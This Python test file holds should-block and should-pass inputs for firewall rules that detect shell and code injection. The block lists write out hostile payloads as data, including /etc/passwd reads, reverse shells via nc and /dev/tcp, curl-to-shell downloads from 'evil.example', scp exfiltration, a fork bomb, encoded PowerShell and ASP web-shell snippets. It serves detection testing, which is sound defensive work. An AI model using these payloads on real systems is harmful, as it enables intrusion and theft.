"""Should-block / should-pass payloads of the ``rules/managed/attacks_shell.py`` classes (see ``cases.py``).

Pass payloads are what real users type near the attack grammars: English words that are also
command names ("cat food", "time to go", "find a store"), search operators ("cat toys -plush"),
language names as values ("Ruby", "php"), US state codes ("NC"), markdown that quotes a command in
backticks, jQuery and JavaScript template strings, Next.js route paths, JSONPath, prose with
semicolons and dashes.
"""

from __future__ import annotations

from tests.rules.case import Case

# Innocent look-alikes of a *whole value* command line (each must pass every placement).
COMMAND_WORDS_IN_PROSE = (
    "cat food",
    "bash guitar pedal",
    "tail of the dog",
    "time to go",
    "find a store",
    "more info",
    "sort by price",
    "ls in the office",
    "cat toys -plush",
    '"cat" -dog',
    "größe 42 schuhe -used",
    "last -minute deals",
    "head lice treatment",
    "cut resistant gloves",
    "sort -created",
    "python tutorial",
    "Ruby",
    "NC",
    "Dash",
    "php",
    "perl",
    "node",
    "nice ruby ring",
    "nice cat photos",
    "time who knows",
    "ping me at john.doe@example.com",
    "ping john.doe about the meeting",
    "curl up with a book",
    "curl cream for hair",
    "wget alternative for windows",
    "echo chamber",
    "top 10 movies",
    "kill time before the show",
    "touch screen laptop",
    "find my iphone",
    "set of 4 chairs",
    "export to csv",
    "source of truth",
    "host a party",
    "file a claim",
    "zip code 90210",
    "free shipping",
    "date night ideas",
    "w hotel",
    "env vars in next.js",
    "chmod explained",
    "AA-battery pack",
    "chef-inspired recipes",
    "salt-free diet",
    "ansible vs puppet",
    "apt-get install nginx",
    "ssh tunnel tutorial",
    "dig deep",
    "bin/rails server",
    "http://example.com/bin/download",
    "nohup explained",
    "strace output looks weird",
    "RC car.sh toy",
    "rc1 release notes",
    "cut the cake",
    '<?xml version="1.0"?><note><body>watch this</body><to>Ann</to></note>',
    '<?xml version="1.0"?><r><v>cut the cake</v></r>',
)

CASES: tuple[Case, ...] = (
    Case(
        "UNIXShellCommands",
        ("; cat /etc/passwd", "| id", "&& whoami", "$(curl http://evil.example/x.sh)", "; nc -e /bin/sh 10.0.0.1 4444",
         "; salt-call cmd.run id", "x; xzcat /var/log/auth.log.xz", "x=cd /;cd etc;head hosts", "tr a b <<< 'abc'",
         # Any command taking a long option after ";", "&&" or "$(" (quoted or not).
         ";rmt --version", ";'perf' --version", "x && ansible-inventory --list",
         # A variable as the command, output piped into a shell, a subshell, /dev/tcp through a variable.
         "|$u wget test", "a=nc&&$a -nlvp 555", "whxami|sh ``", "d=/dev&&(sh)0>$d/tcp/51.15.142.164/777",
         "x; ls 2>&1", ";chmod +x evil.php", "; chmod 4755 /tmp/x",
         # Separators at a value's start or glued after a space; ssh-family to user@host; at jobs;
         # a variable assigned then used inside a word; backticked commands glued; expr probes.
         ";top Something else", "=;uname", "; ;id", "x ;whoami", ";ssh-copy-id user@server",
         "|ssh root@10.0.0.1", "&& scp /etc/passwd me@evil.example:/tmp", ';at 2:00 "echo test"',
         "&&at now", "v='u';cu$v\\r\\l x.example", "x=\"h\";w${x}oami", "`cut x1``dig y2`",
         "`id``whoami`", "; expr 7 \\* 7", "|expr 3482 * 7301", "1|sleep 5", "1&&sleep 5",
         # ps with its option words; " & id" ending a value.
         "; ps aux", "|ps -ef", "x & whoami",
         # Here-strings after a separator, alias/unalias, sqlite and vi shell escapes.
         ";irb<<<1+2", ";gcc10.1<<<'void main(){}'", "alias ls-al='ls -al'", "alias -p jzfrx=id", "; unalias -a",
         ";\\n.shell nc 10.0.0.1 6666 -e sh", ";vim -c:\\!pwd", "uname$u -a", "{n$u\\c$u,-nlvp,777}",
         # Admin CLIs after a separator; a backslash in front of a command word.
         "&aptitude", '{";aptitude":"foo"}', "x\nid", "x&whoami",
         # English-word commands glued to the separator, after "&&" / "$(", or with an argument
         # shape after a spaced separator (mixed case too); recon tools ending the value.
         ";set", "|set", ";Set", "|SeT", ";set in stone", "&& set", "$(set)", "; cat|nc x 1", "| sleep 5",
         "| sLeEp 5", ";ls -la", "; whoami", "| hEaD -n 5 /etc/passwd", "; ping -c 3 127.0.0.1",
         "x | tail -n 1 /var/log/auth.log", "; echo $PATH", "| more /etc/hosts", "; kill -9 1",
         # Short command names alone after a separator, in any case but all capitals (a shell
         # finds no "NC"); in capitals with an argument shape; a pipe into sh; 2>&1 ending it.
         "127.0.0.1 | id", "| iD", "|Nc", "x;pHp", "|nl|", "| NC -e /bin/sh 10.0.0.1 4444",
         ";LS -la", "curl x.example/a | sh", "x |sh #", "; id 2>&1", "x\niD\n", "x\npwd", "x | Sleep 10", "; kill 1234",
         "| php -r 'system(1);'", ";php;", "; lua -e 'os.execute(1)'"),
        ("bash guitar pedal", "Tom & Jerry", "cat food; dog food", "drop me a line", "salt & pepper",
         "python 3.10 release notes", "cd music; then play", "Thanks; Bob --sent from my phone",
         "Options; see --help for more", "I like apples; pears -- not so much", "| Use --force | yes |",
         "| Option | Description | --force | overwrite |", "Cost; $5 each", "$a = 1; $b = 2;",
         "| $price | $tax |", "Love you<<<3", "<<<<<<< HEAD", "alias: Bob", "My alias is Bobby",
         "aka Bob; alias = Robert", "a .shell css class", "Use `git pull --rebase` then `npm run build`.",
         "Run `ls -la` to list files, then `cat README.md`.", "wow!! \\!important", "US$-5 off",
         # A single "&" or a line break before a word: a flag parameter or a one-word line.
         "cats&more", "page=2&id", "a=1&time",
         "Meeting moved; at 2:00 we start", "We moved the standup ;at 9:30 now.", "margin:0;top:0",
         "transition: top 0.3s ease;top:0", "email me at bob@example.com; or ssh bob@build01",
         "console.log(`${a} and ${b}`)", "key='value'; other='thing'", "a=1;b=2;c=3",
         "lunch;at noon", "R&D;top priority", "sizes: S;M;L;XL", "expression 7 * 7 = 49",
         "| ps aux | list processes |", "Sure; I''d love to", "ok; can''t make it", "R & D",
         "user id & password", "Paths: C:\\Windows;C:\\Program Files\\Git\\bin", "perl's regex; python's re",
         # Titles and sentences: a spaced "|" or ";" then an English word that is also a command
         # name, ending the value or followed by prose.
         "Knife | Set", "Chef's Knife | Set", "; set in stone", "Tea | Time", "Pros; More", "Books; Less",
         "Salt | Pepper | Sort", "Notes | Last", "Guests | Who", "Pets | Find", "Shoes | Head",
         "Bar | Tail", "Paper | Cut", "Bedtime | Touch", "Gifts | Kill", "Tips; Sleep", "Data | Source",
         "Import | Export", "Drinks | Eval", "Team | Exec", "Sound | Echo", "Animals | Cat",
         "Hiking | Mount", "Gloves | Finger", "Old vs new | Diff", "News | Column", "Flag | Tr",
         "Units | Od", "Dinner | ll", "Wheel | Rev", "Park | Host", "Size | W", "Pros; More; Less",
         "Tea | Time | Table", "Snakes | Python", "Top | Watch", "Music | CD", "Gadgets | Zip",
         # Pipe-separated data with state, region and country codes in capitals.
         "Raleigh | NC", "Kiel|SH|24103", "Jakarta | ID", "Amsterdam|NL|1012 AB", "Boise, ID | US",
         "Skills: Java | PHP | SQL", "Sizes | PS | XL", "Docs | LS", "Please bring:\nID\nTickets",
         # English command words as product model names in a pipe-separated title.
         "Bishop | Time 509 | Steel | Size M", "Brand | Less 473", "Hernandez | Source 601 | Red",
         # Shell words in prose: a redirection not ending a command, chmod's mode then prose.
         "2>&1 meaning", "what does 2>&1 do in bash", "then chmod +x on it and run",
         # Languages in a lowercase tag list.
         "skills: java; php; mysql", "Tags: lua | python"),
    ),
    Case(
        "UNIXCommandSplicing",
        (";wh''oami", "|c\\at /etc/hosts", '&& ne""tstat -an', "0;pi\\ng -c 3 127.0.0.1",
         "$(pyt\\hon -c 'x')",
         "; w'h'o'am'i", ";ca''t /etc/hosts", "|u\\name -a", "|c\\at", "; he''ad -n 1 /etc/passwd"),
        ("Sure; I''d love to", "ok; can''t make it", "perl's regex; python's re", "x; cat's toy",
         "Paths: C:\\Windows;C:\\Program Files\\Git\\bin", "a;b\\c",
         "Pros; More", "Books; Less", "Shoes | Head", "Bar | Tail", "Tips; Sleep", "Sound | Echo",
         "Animals | Cat"),
    ),
    Case(
        "UNIXShellCommandsUnquoted",
        ("; w'h'o'am'i", "| c\\at /et\\c/pas\\swd", "ti''me curl coreruleset.org",
         # A network tool aimed at this machine or an address once the quotes are gone.
         "'c'url localhost", '"w"get localhost', "c'u'rl 10.0.0.1", 'w"g"et 127.0.0.1:8080/x'),
        ("O'keefe's dog", 'That\'s two "O"s in goose', "ping me later", "curl localhost-ish hair",
         "who am I?", "the cat sat on the mat", "time's up, curl your hair", "whoami meaning",
         "ifconfig not found", "wget-style downloads are supported by our CLI", "curl-free hair cream"),
    ),
    Case(
        "UNIXCommandLineValue",
        (
            # English-word commands decided by their arguments.
            "cat /etc/passwd", "ls -la", "cat /path/file.gz", "find / -name passwd", "tail -f /var/log/syslog",
            "cat /et*/*wd", "set -o history", "env --version", "cat x | grep root", "ls /tmp > /dev/null",
            # Tools that are no words: an argument shape, or recon tools alone.
            "curl coreruleset.org", "wget http://203.0.113.9/x.sh", "perf --version", "busybox -c 'echo hi'",
            "/usr/bin/perl -e 'print readline' x.txt", "/usr/bin/python3 -m http.server", "/bin/ab",
            "python -c 'import os'", "nc 10.0.0.1 4444", "whoami", "ifconfig", "visudo\n",
            # Configuration-management and admin CLIs; command prefixes; bin/ paths.
            "ansible all -m ping", "ansible-config dump", "ansible-vault decrypt secret", "chef-client -t 1.1.1.1",
            "cscli alerts list", "'cscli' alerts list", "aa-disable php-fpm", "time bsdtar ", "nohup ifconfig",
            "strace ifconfig", "bin/visudo", "bin/ansible", "time; cscli alerts list", ";rmt-tar", "\\ls", "whoami;x",
            "\\cat /etc/hosts",
            # A prefix that only runs another program, then a command word; other shells.
            "nohup who", "strace who\n", "setsid id", "ltrace ls -l", "fish -c id", "mksh -c 'id'",
        ),
        COMMAND_WORDS_IN_PROSE,
    ),
    Case(
        "UNIXShellExpansion",
        ("cat${IFS}/etc/passwd", "${PATH:0:1}etc${PATH:0:1}passwd", "${x:-id}", "${HOME%/*}", "/bi[n]/ba[s]h", "{cat,/etc/passwd}", "c$@at /e${x}tc/hosts",
         "cat /etc/pa[s]swd", "/etc/[!q]asswd", "/etc/[m-z]asswd", "cat /[e//]tc/[p//]asswd", "ls /a[b///]c",
         "$(cmd)", '"$(cmd)"', "$(id -u)", "$((1+2))", "$[]", "$[2*2]", "ping$() 127.0.0.1", "ping`` 127.0.0.1",
         "c$!at /et$!c/pas$!swd", "~+", "~-", "~-1", "!-1!-2", "() { :; }; /bin/id", ":(){ :|:& };:",
         "f(){ f & f; };f", "$c1$c2$c3$c4", "{,/?s?/?i?/c?t,/e??/p??s??,}", "c{a,oun}t /etc/hosts", "{,ip,a}",
         # Globs in two consecutive path segments; a whole value that is one shell variable; a pipe
         # into a glued expansion; a word spelled between empty quotes.
         "/e?c/?asswd", "/??c/p?ss?d", "/e*c/*asswd", "/b?n/c?t /e?c/p?sswd", "${cmd}", "${IFS}",
         "echo | ${cc}gcc7.4", '""w""h""o""a""m""i""', "''i''f''c''o''n''f''i''g''"),
        ("filter[name]=shoes", "price ${total}", "{a: 1, b: 2}", "/pages/[id]/edit", "/app/[slug]/page.tsx",
         "[link](/docs/[id]/x)", "items[0][name]", "$(document).ready(function(){ $('#a').hide(); });",
         "var el = $(this);", "Hello ${user.name}, your order ${order.id} shipped", "$[0].name", "$['store']['book']",
         "~5 minutes", "~/projects/app is my folder", "wow!!", "!important", "function () { return 1; }",
         "setTimeout(function () { x(); }, 10)", "const f = () => { return a | b; }", "get mask() { return A | B; }",
         "use ``code`` here", "*.{js,ts}", "{a,b,c}.txt", "src/**/*.js",
         "/api/*/users", "/usr/lib/python3/dist-packages", "/home/*/public_html", "${user.name}",
         # Debian substitution variables in a changelog or control file
         "Depends: ${misc:Depends}, ${shlibs:Depends}", "needs samba >= ${source:Version}~ not ${binary:Version}",
         "The value was ''a''b''c'' in the log", 'He said ""yes"" and left', "Budget ~5k; ~3 weeks",
         '<?xml version="1.0"?><r><v>(function(){ return 1; })()</v></r>'),
    ),
    Case(
        "UNIXConfigFileUpload",
        ('--b\r\nContent-Disposition: form-data; name="f"; filename=".htaccess"\r\n\r\nAddType x\r\n--b--\r\n',
         '--b\r\nContent-Disposition: form-data; name="f"; filename="wp-config.php"\r\n\r\nx\r\n--b--\r\n',
         '--b\r\nContent-Disposition: form-data; name="f"; filename="../.ssh/authorized_keys"\r\n\r\nx\r\n--b--\r\n'),
        ('--b\r\nContent-Disposition: form-data; name="f"; filename="notes.md"\r\n\r\nx\r\n--b--\r\n',
         '--b\r\nContent-Disposition: form-data; name="f"; filename="config.yml"\r\n\r\nx\r\n--b--\r\n',
         "my settings.php file", "the .bashrc tip", "profile", "environment"),
    ),
    Case(
        "WindowsShellCommands",
        ("| type C:\\Windows\\win.ini", "& powershell -enc SQBFAFgA", "cmd.exe /c dir", "FOR /F %a IN (x) DO y",
         "& FOR /L /L %~ IN (1,1,9) DO cmd", "if/i x==y calc", "for %variable in (set) do command",
         "for /f \"usebackq\" %v in (`command`) do command", ";iwr http://example.com/path/file.ps1",
         ";iwmi -class Win32_process -name Create", "; regedit /E c:\\ads\\file.txt HKEY_CURRENT_USER\\Key",
         "&bcdboot /r file.txt", "& icacls C:\\x /grant Everyone:F", "& whoami /priv", "| ipconfig",
         # cmd.exe carets and empty quote pairs spliced into a command word.
         "& w^h^o^a^m^i", "| n^et u^ser", "&& c^md /c dir", '& who""ami', "|| ipco^nfig",
         # single quotes inside the word (cmd drops them), and search / delete tools with a switch
         '& w"h"o"a"m"i', '| ne"t user', "| findstr /s password *.config", "& rmdir /s /q C:\\data",
         # the value is only a separator and a builtin or recon tool run bare
         "| set", "&& ver", "| hostname", ";getmac", "|| systeminfo", "& date /t", "&\tset", "&& SET"),
        ("Windows 11 type cover", "the power shell of a turtle", "for a in list do x", "if a == b then c",
         "for each item in the cart do checkout", "for 50% in (cash) do pay", "copy/paste doesn't work",
         "start /b", "Q&A /s", "rock & roll /r/music", "attrib sheet", "if /i like it", "whoami meaning",
         "ipconfig shows no address", "x^2 + y^2", "I love C^2 math", "version ^1.2.3", "a & b^c",
         "Caret ^ symbol", 'the "net" and "dir" fields', "shutdown /r/technology thread",
         'find "net" in the text',
         # the same words inside text, or after "&" glued to a flag ("q=&set" is an empty value)
         "Game & set", "ready, get & set", "& set the table", "&set", "Q&A: set",
         "| hostname | address |", "&& version 2", "& settings"),
    ),
    Case(
        "ASPCodeInjection",
        ('Ex"&"e"&"cute("x")', 'Server.CreateObject("WScript.Shell")', "x:On Error Resume Next:y",
         'CreateObject("Scripting.FileSystemObject")', 'ExecuteGlobal "x"', "Server.ScriptTimeout=3600",
         '<%eval request("x")%>', '<% Execute(Request("c")) %>', '<%@ Page Language="Jscript"%>'),
        ('="Hello"&" "&"World"', 'cmd.Execute("SELECT 1")', "Please execute the plan", "the server restarted",
         "On error, resume the next step", "Rock & Roll", "Execute order 66", "<%= title %>",
         "<% if user %>hi<% end %>", "evaluate the request later"),
    ),
    Case(
        "UNIXShellStructure",
        ("127.0.0.1;xyz", "x$(tool)", ";./exploit", "|| doit /tmp/x", "';frob;'", "$(<flag.txt)",
         "foo`xyz`", "&& custombin -x", "; frob > /tmp/x", ";${IFS}x", "a&&xyz&&b",
         ";ec\\ho p\\wned > /tmp/x", "127.0.0.1; ./backdoor",
         # a lone "&" then a space, a command and a redirection into a path
         "& echo pwned > /var/www/html/x", "& e''cho x >> /tmp/y", "& printf ok 2>&1"),
        ("done; see below", "$(document).ready(fn)", "$(this).hide();", "Tom & Jerry -- live",
         "`npm install` then `npm test`", "The parameter 5 is&|.", "/api/v1/items;v=2",
         "Use `a && b` in bash", "| Column | Type |", '"a";"b";"c"', "rock && roll", "Q&A; FAQ",
         "x = `hello ${name}`;", "Tip; use -v for more output"),
    ),
    Case(
        "UNIXShellStructureLine",
        ("x\nfrob -v", "127\nxyz --now"),
        ("line one\nline two", "a\n- item"),
    ),
)
